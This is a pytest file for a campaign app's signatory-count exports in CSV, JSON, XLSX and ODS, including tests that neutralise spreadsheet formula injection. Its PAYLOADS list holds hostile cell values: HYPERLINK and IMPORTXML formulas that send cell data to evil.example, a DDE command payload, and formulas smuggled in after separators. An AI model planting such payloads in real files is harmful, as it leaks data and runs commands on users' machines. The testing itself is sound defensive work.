"""Exports: the same numbers in every format, and no cell that a spreadsheet would run."""

from __future__ import annotations

import csv
from collections.abc import Callable, Iterator, Sequence
from dataclasses import dataclass
from datetime import UTC, date, datetime
from io import StringIO
from typing import Any, ClassVar

import pytest
import time_machine
from hypothesis import example, given
from hypothesis import settings as hypothesis_settings
from hypothesis import strategies as st

from campaign.models import Campaign
from letters.counts import public_counts
from letters.enums import COUNTED, LetterState
from letters.exports import parameters
from letters.exports.base import Cell, Column, Export, Fact
from letters.exports.cells import neutral, original, shortened, xml_text
from letters.exports.counts import SignatoryCounts
from letters.exports.registry import EXPORTS, FORMATS
from tests.factories.campaign import CampaignFactory
from tests.factories.letters import LetterFactory, SubmissionFactory
from tests.letters.spreadsheets import read_csv, read_json, read_ods, read_xlsx

NOW = datetime(2026, 11, 22, 9, 30, 15, tzinfo=UTC)
FACTS = ["campaign", "time zone", "from", "to", "states", "counted at"]
CONFIRMED = "confirmed, and not taken back, returned or rejected"


def file_of(export: Export, format: str) -> bytes:
    return b"".join(FORMATS[format].chunks(export))


@dataclass
class Texts(Export):
    """An export of any texts, one a row."""

    identifier: ClassVar[str] = "texts"
    texts: Sequence[str]

    def columns(self) -> list[Column]:
        return [Column("text", "text"), Column("day", "day"), Column("count", "count")]

    def rows(self) -> Iterator[list[Cell]]:
        for text in self.texts:
            yield [text, date(2026, 11, 22), 7]

    def total(self) -> list[Cell]:
        return ["Total", None, 7 * len(self.texts)]

    def totals(self) -> dict[str, int]:
        return {"count": 7 * len(self.texts)}

    def facts(self) -> list[Fact]:
        return [Fact("source", "source", "a test")]

    def filename(self) -> str:
        return "texts"


# --- signatory counts -----------------------------------------------------------------------------


@pytest.fixture
def campaign(db: None) -> Iterator[Campaign]:
    """Three letters of two writers on two days; one letter has words; two more don't count."""
    campaign = CampaignFactory(slug="stay", time_zone="Europe/Tallinn")
    with time_machine.travel(NOW, tick=False):
        first = SubmissionFactory(
            campaign=campaign,
            words="I live here.",
            created_at=datetime(2026, 11, 20, 22, tzinfo=UTC),
        )
        LetterFactory(submission=first, state=LetterState.SENT, government__name="Norland")
        LetterFactory(submission=first, state=LetterState.HELD, hold_reason="no_address",
                      government__name="Åland")  # fmt: skip
        LetterFactory(submission__campaign=campaign, government__name="Sudland",
                      submission__words="Mine too.", state=LetterState.APPROVED)  # fmt: skip
        for state in (LetterState.AWAITING, LetterState.WITHDRAWN):
            LetterFactory(submission__campaign=campaign, state=state)
        yield campaign


def test_csv_is_one_table_that_names_what_was_counted(campaign: Campaign) -> None:
    export = SignatoryCounts.count(campaign, ["day"], until=date(2026, 11, 30))

    header, *rows = read_csv(file_of(export, "csv"))

    facts = ["stay", "Europe/Tallinn", "", "2026-11-30", CONFIRMED, "2026-11-22T11:30:15+02:00"]
    measures = ["letters", "signatories", "with own words"]
    assert header == ["day (Europe/Tallinn)", *measures, *FACTS]
    assert rows == [
        ["2026-11-21", "2", "1", "2", *facts],
        ["2026-11-22", "1", "1", "1", *facts],
        ["Total", "3", "2", "3", *facts],
    ]


def test_csv_is_utf8_with_a_byte_order_mark_and_lines_end_as_rfc_4180_says(
    campaign: Campaign,
) -> None:
    content = file_of(SignatoryCounts.count(campaign, ["government"]), "csv")

    assert content.startswith("\ufeffgovernment,government (code),letters".encode())
    assert content.count(b"\r\n") == content.count(b"\n") == 5
    assert f'"{CONFIRMED}"'.encode() in content


def test_json_is_one_object_with_rows_by_key(campaign: Campaign) -> None:
    export = SignatoryCounts.count(campaign, ["government", "day"], since=date(2026, 11, 22))

    sudland = campaign.letters.get(government__name="Sudland").government
    assert read_json(file_of(export, "json")) == {
        "export": "counts",
        "campaign": "stay",
        "time_zone": "Europe/Tallinn",
        "from": "2026-11-22",
        "to": None,
        "states": [state for state in LetterState.values if state in COUNTED],
        "counted_at": "2026-11-22T11:30:15+02:00",
        "rows": [
            {
                "government": "Sudland",
                "government_code": sudland.iso2,
                "day": "2026-11-22",
                "letters": 1,
                "signatories": 1,
                "with_words": 1,
            }
        ],
        "total": {"letters": 1, "signatories": 1, "with_words": 1},
    }


@pytest.mark.parametrize("read", [read_xlsx, read_ods])
def test_workbooks_have_a_sheet_of_counts_and_one_about_them(
    campaign: Campaign, read: Callable[[bytes], dict[str, list[list[Any]]]]
) -> None:
    export = SignatoryCounts.count(campaign, ["month"], since=date(2026, 11, 1))

    sheets = read(file_of(export, read.__name__.removeprefix("read_")))

    assert sheets["Counts"] == [
        ["month (Europe/Tallinn)", "letters", "signatories", "with own words"],
        ["2026-11", 3, 2, 3],
        ["Total", 3, 2, 3],
    ]
    about = {row[0]: row[1] if len(row) > 1 else None for row in sheets["About"]}
    assert list(about) == FACTS
    assert (about["campaign"], about["time zone"]) == ("stay", "Europe/Tallinn")
    assert (about["states"], about["to"]) == (CONFIRMED, None)
    assert about["counted at"] == "2026-11-22T11:30:15+02:00"


@pytest.mark.parametrize("by", [["government"], ["country", "day"], ["state", "office"], []])
def test_totals_are_the_same_in_every_format_and_on_the_page(
    campaign: Campaign, by: list[str]
) -> None:
    page = public_counts(campaign)
    export = SignatoryCounts.count(campaign, by)
    files = {format: file_of(export, format) for format in FORMATS}

    total = [page["letters"], page["signatories"], export.tally.total.with_words]
    end = len(FACTS)
    assert total == [3, 2, 3]
    assert list(map(int, read_csv(files["csv"])[-1][-end - 3 : -end])) == total
    assert list(read_json(files["json"])["total"].values()) == total
    assert read_xlsx(files["xlsx"])["Counts"][-1][-3:] == total
    assert read_ods(files["ods"])["Counts"][-1][-3:] == total


def test_days_are_dates_in_workbooks(campaign: Campaign) -> None:
    export = SignatoryCounts.count(campaign, ["day"])

    days = [row[0] for row in read_ods(file_of(export, "ods"))["Counts"]]
    serials = [row[0] for row in read_xlsx(file_of(export, "xlsx"))["Counts"]]

    assert days[1:3] == ["2026-11-21", "2026-11-22"]
    assert serials[1:3] == [46347, 46348]  # days since 1899-12-30


def test_without_groups_the_total_is_the_table(campaign: Campaign) -> None:
    rows = read_csv(file_of(SignatoryCounts.count(campaign, []), "csv"))

    assert [row[:3] for row in rows] == [
        ["letters", "signatories", "with own words"],
        ["3", "2", "3"],
    ]


def test_states_asked_for_are_named(campaign: Campaign) -> None:
    all_states = SignatoryCounts.count(campaign, ["state"], states=set(LetterState.values))
    two = SignatoryCounts.count(campaign, ["state"], states={"withdrawn", "sent"})

    named = {fact.key: fact for fact in two.facts()}["states"]
    assert all_states.totals()["letters"] == 5
    assert {fact.key: fact.value for fact in all_states.facts()}["states"] == "all"
    assert (named.value, named.codes) == ("sent, taken back", ["sent", "withdrawn"])


def test_a_group_asked_for_twice_is_one(campaign: Campaign) -> None:
    export = SignatoryCounts.count(campaign, ["day", "day"])

    assert export.by == ("day",)
    assert export.filename() == "stay-by-day-2026-11-22"


def test_every_export_and_format_has_a_name() -> None:
    assert [export.identifier for export in EXPORTS] == ["counts"]
    assert list(FORMATS) == ["csv", "xlsx", "ods", "json"]


# --- cells ----------------------------------------------------------------------------------------------

SIGNS = "=+-@＝＋－＠"
PAYLOADS = [
    "=2+5",
    "+372 5555",
    "-1+1",
    "@SUM(A1:A9)",
    "＝1+1",
    "＋1",
    "－1",
    "＠A1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\0=1+1",
    "=HYPERLINK(\"https://evil.example/?q=\"&A1,\"Open\")",
    "=IMPORTXML(CONCAT(\"https://evil.example/\",A2),\"//a\")",
    "=cmd|' /C calc'!A0",
    "=1+1\";=1+1",
    "Mari;=1+1",
    "Mari,=1+1",
    "Mari\t=1+1",
    "Mari\",=1+1",
    "Mari\r\n=1+1",
    "Mari|@A1",
    "'=1+1",
    "''=1+1",
    ";'=1+1",
]  # fmt: skip


def opened_with(content: str, delimiter: str) -> Iterator[str]:
    """Yield the cells as a program sees them that takes another separator."""
    for row in csv.reader(StringIO(content, newline=""), delimiter=delimiter):
        yield from row


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_csv_cell_is_a_formula_whatever_the_separator(payload: str) -> None:
    content = file_of(Texts([payload]), "csv").decode("utf-8-sig")

    cells = [cell for mark in ",;\t|" for cell in opened_with(content, mark)]

    assert [cell for cell in cells if cell.lstrip("\t\r\n\0").startswith(tuple(SIGNS))] == []
    assert original(read_csv(content.encode())[1][0]) == payload


@given(
    st.text(alphabet=st.sampled_from([*SIGNS, *"'\"a1,;|\t\r\n\0 "]) | st.characters(codec="utf-8"))
)
@example("\r\n=")
@hypothesis_settings(deadline=None)
def test_neutral_text_starts_with_no_sign_and_can_be_undone(text: str) -> None:
    written = neutral(text)

    assert original(written) == text
    for mark in ',;|\t\r\n"':
        for part in written.split(mark):
            assert not part.startswith(tuple(SIGNS))
    assert not written.startswith(tuple("\t\r\n\0"))


@pytest.mark.parametrize(
    "text", ["Mari Tamm", "O'Brien", "'s-Hertogenbosch", "Nguyễn", "a-b", "x=y", "1 + 1", "", "نور"]
)
def test_ordinary_text_stays_as_it_is(text: str) -> None:
    assert neutral(text) == text


def test_numbers_in_csv_stay_numbers() -> None:
    assert read_csv(file_of(Texts(["-"]), "csv"))[1] == ["'-", "2026-11-22", "7", "a test"]


@given(st.lists(st.text(st.characters(codec="utf-8") | st.sampled_from("\t\n <>&\"'"), min_size=1)))
@example(
    ["=1+1", "https://evil.example", "mailto:a@b.example", "_x0041_", "]]>", " a  b ", "\x00\x01"]
)
@hypothesis_settings(deadline=None, max_examples=60)
def test_workbooks_give_back_every_text_as_text(texts: list[str]) -> None:
    export = Texts([text for text in texts if xml_text(text)])
    expected = [xml_text(text) for text in export.texts]

    ods = [row[0] for row in read_ods(file_of(export, "ods"))["Counts"]]
    xlsx = [row[0] for row in read_xlsx(file_of(export, "xlsx"))["Counts"]]

    assert ods[1:-1] == expected
    assert [decoded(text) for text in xlsx[1:-1]] == expected


def decoded(text: str) -> str:
    """Undo Excel's own escape of what looks like an escape (ECMA-376 22.9.2.19)."""
    return text.replace("_x005F_", "_")


def test_text_longer_than_a_cell_is_cut_and_says_so() -> None:
    (row,) = read_xlsx(file_of(Texts(["õ" * 40_000]), "xlsx"))["Counts"][1:-1]

    assert row[0] == "õ" * 32_766 + "…"


def test_text_is_cut_between_characters() -> None:
    assert shortened("😀😀😀", 6) == "😀😀😀"
    assert shortened("😀😀😀", 5) == "😀😀…"
    assert shortened("😀😀😀", 4) == "😀…"


def test_a_long_table_comes_in_pieces() -> None:
    pieces = list(FORMATS["csv"].chunks(Texts(["Mari Tamm"] * 10_000)))

    assert len(pieces) > 3
    assert len(read_csv(b"".join(pieces))) == 10_002


# --- what is asked for ------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("call", "message"),
    [
        (lambda: parameters.day_named("22.11.2026"), "“22.11.2026” is no day."),
        (lambda: parameters.dimensions_named(["day", "moon"]), "cannot be counted by “moon”"),
        (lambda: parameters.states_named("sent,gone"), "“gone” is no state"),
        (lambda: parameters.states_named(","), "“,” is no state"),
        (lambda: parameters.in_order(date(2026, 2, 2), date(2026, 2, 1)), "2026-02-02, is after"),
    ],
)
def test_what_cannot_be_exported_is_refused_in_a_sentence(
    call: Callable[[], object], message: str
) -> None:
    with pytest.raises(parameters.Refused, match=message):
        call()


def test_states_are_all_that_count_all_or_a_list() -> None:
    assert parameters.states_named("confirmed") == COUNTED
    assert parameters.states_named("all") == set(LetterState.values)
    assert parameters.states_named("sent, bounced") == {"sent", "bounced"}
